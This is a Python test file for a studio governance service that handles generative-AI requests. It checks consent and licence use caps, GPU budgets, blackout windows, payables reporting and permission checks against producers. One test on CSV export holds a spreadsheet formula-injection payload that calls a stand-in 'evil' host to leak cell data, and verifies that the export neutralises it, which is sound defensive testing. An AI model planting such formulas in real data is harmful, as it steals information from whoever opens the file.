"""Use caps, use events (payables), GPU budgets and blackouts, through the real request path.

The demo studio's Mara Quinn has a confirmed likeness consent; a request depicting her waits
for an approver. Caps are set by legal (``policy.usage.set_terms``); the counters are read
and taken in the decision's own transaction, so concurrent requests cannot overrun a cap.
"""

from __future__ import annotations

import csv
import io
import threading

import pytest
from click.testing import CliRunner

from governance.audit.tables import AuditEntry
from governance.cli import cli
from governance.clock import utcnow
from governance.errors import Forbidden
from governance.policy import usage
from governance.policy.replay import replay
from governance.policy.tables import UsageCounter, UsageReservation, UseEvent
from governance.policy.versions import active_version, compiled
from governance.principal import Principal
from governance.registry.tables import Consent, Licence, Person
from tests.api.conftest import auth
from tests.api.test_flow import png, sign, studio, submit  # noqa: F401  (studio: a fixture)

LEGAL = Principal(user_id=0, name="lee-legal", roles=frozenset({"legal"}))


def mara_consent() -> Consent:
    return Consent.select().join(Person).where(Person.name == "Mara Quinn").get()


def uses_of(kind: str, subject_id: int) -> int:
    row = UsageCounter.get_or_none((UsageCounter.subject_kind == kind) & (UsageCounter.subject_id == subject_id))
    return row.uses if row else 0


def approve(client, studio, request_id):  # noqa: F811
    answer = client.post(f"/api/v1/requests/{request_id}/approval", json={"verdict": "approved", "comment": "ok"},
                         headers=auth(studio.tokens["ada-approver"]))
    assert answer.status_code == 200, answer.json
    return answer.json


def test_a_consent_capped_at_two_uses_refuses_the_third_request_with_evidence(client, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=2, compensation=None, by=LEGAL)
    views = [submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"]).json for _ in range(3)]
    assert [v["decision"]["decision"] for v in views] == ["needs_approval", "needs_approval", "deny"]
    [violation] = [v for v in views[2]["decision"]["violations"] if v["rule"] == "consent-within-use-cap"]
    assert violation["subject"] == "person:Mara Quinn"
    assert [(e["path"], e["found"], e["required"]) for e in violation["evidence"]] == [
        ("consent.uses_so_far", 2, 2)]
    assert uses_of("consent", consent.id) == 2


def test_concurrent_submissions_cannot_overrun_a_cap(app, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=2, compensation=None, by=LEGAL)
    outcomes: list[str] = []
    start = threading.Barrier(6)

    def ask() -> None:
        client = app.test_client()
        start.wait()
        answer = submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"])
        outcomes.append(answer.json["decision"]["decision"])
    threads = [threading.Thread(target=ask) for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == ["deny"] * 4 + ["needs_approval"] * 2
    assert uses_of("consent", consent.id) == 2
    assert UsageReservation.select().where(UsageReservation.subject_id == consent.id).count() == 2


def test_a_retried_submission_with_the_same_idempotency_key_takes_no_second_use(client, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=5, compensation=None, by=LEGAL)
    headers = {**auth(studio.tokens["pat-producer"]), "Idempotency-Key": "mara-1"}
    body = {"production": "harbour-lights", "use": "previs", "territory": "GB", "model": "slate-studio:1",
            "prompt": "a quiet harbour at dusk", "references": [], "people": ["Mara Quinn"],
            "params": {"seed": 7, "steps": 10}}
    first = client.post("/api/v1/requests", json=body, headers=headers)
    again = client.post("/api/v1/requests", json=body, headers=headers)
    assert first.json["request"]["id"] == again.json["request"]["id"]
    assert uses_of("consent", consent.id) == 1


def test_replay_reproduces_a_capped_decision_from_the_counts_recorded_with_it(client, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=1, compensation=None, by=LEGAL)
    submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"])
    denied = submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"]).json
    assert denied["decision"]["decision"] == "deny"
    # the count moves on (a failed job would give a use back); the recorded decision does not
    UsageCounter.update(uses=0).execute()
    report = replay(compiled(active_version()))
    entry = next(e for e in report.entries if e.request == int(denied["request"]["id"]))
    assert (entry.old, entry.new, entry.added, entry.removed) == ("deny", "deny", (), ())


def test_a_failed_job_gives_back_the_use_its_decision_took_and_says_so(client, studio):  # noqa: F811
    Licence.update(max_uses=1).where(Licence.ref == "LIC-NORTHLIGHT-PLATES").execute()
    lic = Licence.get(Licence.ref == "LIC-NORTHLIGHT-PLATES")
    view = submit(client, studio.tokens["pat-producer"], references=[studio.reference_sha256]).json
    assert view["decision"]["decision"] == "allow", view["decision"]
    assert submit(client, studio.tokens["pat-producer"], references=[studio.reference_sha256]).json[
        "decision"]["decision"] == "deny"
    job_id = view["job"]["id"]
    assert client.post(f"/api/v1/jobs/{job_id}/claim", headers=auth(studio.tokens["gpu-worker"])).status_code == 200
    failed = client.post(f"/api/v1/jobs/{job_id}/fail", json={"reason": "out of GPU memory"},
                         headers=auth(studio.tokens["gpu-worker"]))
    assert failed.status_code == 200, failed.json
    assert uses_of("licence", lic.id) == 0
    assert AuditEntry.select().where(AuditEntry.action == "usage.released").count() == 1
    assert submit(client, studio.tokens["pat-producer"], references=[studio.reference_sha256]).json[
        "decision"]["decision"] == "allow"


def _compensate(studio) -> tuple[Consent, Licence]:  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=None, compensation={"amount": "250.00", "currency": "GBP"},
                    by=LEGAL)
    usage.set_terms("licence", "LIC-NORTHLIGHT-PLATES", max_uses=None,
                    compensation={"amount": "12.5", "currency": "EUR"}, by=LEGAL)
    return consent, Licence.get(Licence.ref == "LIC-NORTHLIGHT-PLATES")


def _signed_mara_output(client, studio, seed: int = 1) -> str:  # noqa: F811
    view = submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"],
                  references=[studio.reference_sha256]).json
    assert view["decision"]["decision"] == "needs_approval", view["decision"]
    job = approve(client, studio, view["request"]["id"])["job"]["id"]
    signed = sign(client, studio.tokens["gpu-worker"], job, image=png(seed))
    assert signed.status_code == 201, signed.json
    again = sign(client, studio.tokens["gpu-worker"], job, image=png(seed))
    assert again.status_code == 200  # a retried sign call
    return str(signed.json["sha256"])


def test_each_signed_output_appends_one_use_event_per_compensated_record_and_retries_add_none(client, studio):  # noqa: F811
    consent, lic = _compensate(studio)
    sha = _signed_mara_output(client, studio)
    events = sorted((e.subject_kind, e.subject_id, e.amount, e.currency, e.payee)
                    for e in UseEvent.select().where(UseEvent.output_sha256 == sha))
    assert events == [("consent", consent.id, "250.00", "GBP", "Mara Quinn"),
                      ("licence", lic.id, "12.5", "EUR", "Northlight Archive")]
    assert UseEvent.select().count() == 2


def test_the_uses_report_is_csv_with_stable_columns_for_the_production_only(client, studio, app,  # noqa: F811
                                                                             monkeypatch):
    _compensate(studio)
    sha = _signed_mara_output(client, studio)
    answer = client.get("/api/v1/productions/harbour-lights/uses?format=csv",
                        headers=auth(studio.tokens["pat-producer"]))
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert tuple(rows[0]) == usage.CSV_COLUMNS
    assert sorted((r[2], r[5], r[10], r[11]) for r in rows[1:]) == [
        (sha, "consent", "250.00", "GBP"), (sha, "licence", "12.5", "EUR")]
    settings = app.config["SLATE_SETTINGS"]
    monkeypatch.setenv("SLATE_HOME", str(settings.home))
    for name in ("SLATE_DATABASE_URL", "SLATE_DATA_DIR", "SLATE_KEYS_DIR", "SLATE_REDIS_URL"):
        monkeypatch.delenv(name, raising=False)
    cli_out = CliRunner().invoke(cli, ["report", "uses", "--production", "harbour-lights", "--format", "csv",
                                       "--by", "pat-producer"])
    assert cli_out.exit_code == 0, cli_out.output
    assert cli_out.output.replace("\r\n", "\n") == answer.get_data(as_text=True).replace("\r\n", "\n")


def test_a_payee_name_that_is_a_spreadsheet_formula_is_exported_as_text():
    row = usage.UseRow("2026-01-01T00:00:00+00:00", "p", "a" * 64, 1, 2, "licence", 3, 1, "LIC",
                       '=HYPERLINK("http://evil/?"&A1,"x")', "1.00", "GBP", "output")
    [_, line] = list(csv.reader(io.StringIO(usage.to_csv([row]))))
    assert line[9] == "'" + '=HYPERLINK("http://evil/?"&A1,"x")'
    assert [usage.spreadsheet_safe(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "plain")] == ["'+1", "'-1", "'@SUM(A1)",
                                                                                 "'\tx", "plain"]


def test_a_production_that_used_its_gpu_budget_is_refused_with_evidence(client, studio):  # noqa: F811
    usage.set_budget("harbour-lights", gpu_seconds=10.0, by=LEGAL)
    view = submit(client, studio.tokens["pat-producer"]).json
    assert view["decision"]["decision"] == "allow"
    job = view["job"]["id"]
    answer = client.post("/api/v1/sign", headers=auth(studio.tokens["gpu-worker"]),
                         content_type="multipart/form-data",
                         data={"image": (io.BytesIO(png()), "out.png", "image/png"), "job_id": job,
                               "model_identity": "b" * 64, "environment": "{}", "gpu_seconds": "12.5",
                               "receipt": __import__("tests.workers", fromlist=["receipt"]).receipt(
                                   studio.tokens["gpu-worker"], job, png())})
    assert answer.status_code == 201, answer.json
    assert usage.budget_of("harbour-lights")["gpu_seconds_used"] == 12.5
    refused = submit(client, studio.tokens["pat-producer"]).json
    assert refused["decision"]["decision"] == "deny"
    [violation] = [v for v in refused["decision"]["violations"] if v["rule"] == "production-within-gpu-budget"]
    assert [(e["path"], e["found"], e["required"]) for e in violation["evidence"]] == [
        ("production.gpu_seconds_used", 12.5, 10.0)]


def test_a_request_dated_inside_a_blackout_window_is_refused(client, studio):  # noqa: F811
    today = utcnow().date().isoformat()
    usage.set_budget("harbour-lights", gpu_seconds=None, by=LEGAL,
                     blackouts=[{"from": today, "until": today, "reason": "picture lock"}])
    view = submit(client, studio.tokens["pat-producer"]).json
    assert view["decision"]["decision"] == "deny" and view["job"] is None
    assert "no-generation-in-blackout" in {v["rule"] for v in view["decision"]["violations"]}
    assert UsageCounter.select().where(UsageCounter.uses > 0).count() == 0


# ---------------------------------------------------------------- insider attacks

def test_a_producer_cannot_lift_a_cap_or_raise_their_budget(client, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=1, compensation=None, by=LEGAL)
    producer = studio.tokens["pat-producer"]
    lifted = client.put(f"/api/v1/consents/{consent.id}/terms", json={"max_uses": None}, headers=auth(producer))
    budget = client.put("/api/v1/productions/harbour-lights/budget", json={"gpu_seconds_budget": 1e9},
                        headers=auth(producer))
    assert (lifted.status_code, budget.status_code) == (403, 403)
    assert Consent.get_by_id(consent.id).max_uses == 1
    with pytest.raises(Forbidden):
        usage.set_terms("consent", consent.id, max_uses=None, compensation=None,
                        by=Principal(user_id=9, name="pat-producer", roles=frozenset({"producer"}),
                                     productions=frozenset({"harbour-lights"})))


def test_a_producer_of_another_production_learns_nothing_of_its_payables(client, studio):  # noqa: F811
    from governance.auth.users import add_user, issue_token
    from governance.registry.people import add_production
    add_production("northern-line")
    add_user("nell-producer", ["producer"], ["northern-line"])
    token = issue_token("nell-producer")["token"]
    theirs = client.get("/api/v1/productions/harbour-lights/uses", headers=auth(token))
    missing = client.get("/api/v1/productions/no-such-production/uses", headers=auth(token))
    assert theirs.status_code == missing.status_code == 404
    assert theirs.json["detail"].replace("harbour-lights", "X") == missing.json["detail"].replace(
        "no-such-production", "X")


def test_legal_sets_terms_and_bad_terms_are_clear_422s_with_nothing_written(client, studio):  # noqa: F811
    consent = mara_consent()
    legal = auth(studio.tokens["lee-legal"])
    for body in ({"max_uses": -1}, {"compensation": {"amount": "ten", "currency": "GBP"}},
                 {"compensation": {"amount": "10", "currency": "pounds"}}, {"max_uses": "2"}):
        bad = client.put(f"/api/v1/consents/{consent.id}/terms", json=body, headers=legal)
        assert bad.status_code == 422 and bad.mimetype == "application/problem+json", (body, bad.json)
    assert Consent.get_by_id(consent.id).version == consent.version
    ok = client.put(f"/api/v1/consents/{consent.id}/terms", json={"max_uses": 3, "compensation": {
        "amount": "100", "currency": "gbp"}}, headers=legal)
    assert ok.status_code == 200, ok.json
    assert (ok.json["max_uses"], ok.json["compensation"], ok.json["version"]) == (
        3, {"amount": "100", "currency": "GBP", "per": "output"}, consent.version + 1)


def test_a_rejected_request_gives_back_its_use_and_a_denied_one_took_none(client, studio):  # noqa: F811
    consent = mara_consent()
    usage.set_terms("consent", consent.id, max_uses=1, compensation=None, by=LEGAL)
    view = submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"]).json
    assert submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"]).json[
        "decision"]["decision"] == "deny"
    assert uses_of("consent", consent.id) == 1  # the denial took nothing
    rejected = client.post(f"/api/v1/requests/{view['request']['id']}/approval",
                           json={"verdict": "rejected", "comment": "not this scene"},
                           headers=auth(studio.tokens["ada-approver"]))
    assert rejected.status_code == 200, rejected.json
    assert uses_of("consent", consent.id) == 0
    assert submit(client, studio.tokens["pat-producer"], people=["Mara Quinn"]).json[
        "decision"]["decision"] == "needs_approval"


def test_a_job_blocked_by_a_takedown_gives_back_the_use_its_decision_took(client, studio):  # noqa: F811
    usage.set_terms("licence", "LIC-NORTHLIGHT-PLATES", max_uses=3, compensation=None, by=LEGAL)
    lic = Licence.get(Licence.ref == "LIC-NORTHLIGHT-PLATES")
    view = submit(client, studio.tokens["pat-producer"], references=[studio.reference_sha256]).json
    assert view["status"] == "queued" and uses_of("licence", lic.id) == 1
    down = client.post("/api/v1/licences/LIC-NORTHLIGHT-PLATES/takedown", json={"reason": "rights dispute"},
                       headers=auth(studio.tokens["lee-legal"]))
    assert down.status_code == 200, down.json
    assert uses_of("licence", lic.id) == 0
    [entry] = AuditEntry.select().where(AuditEntry.action == "usage.released")
    assert entry.actor == "lee-legal"
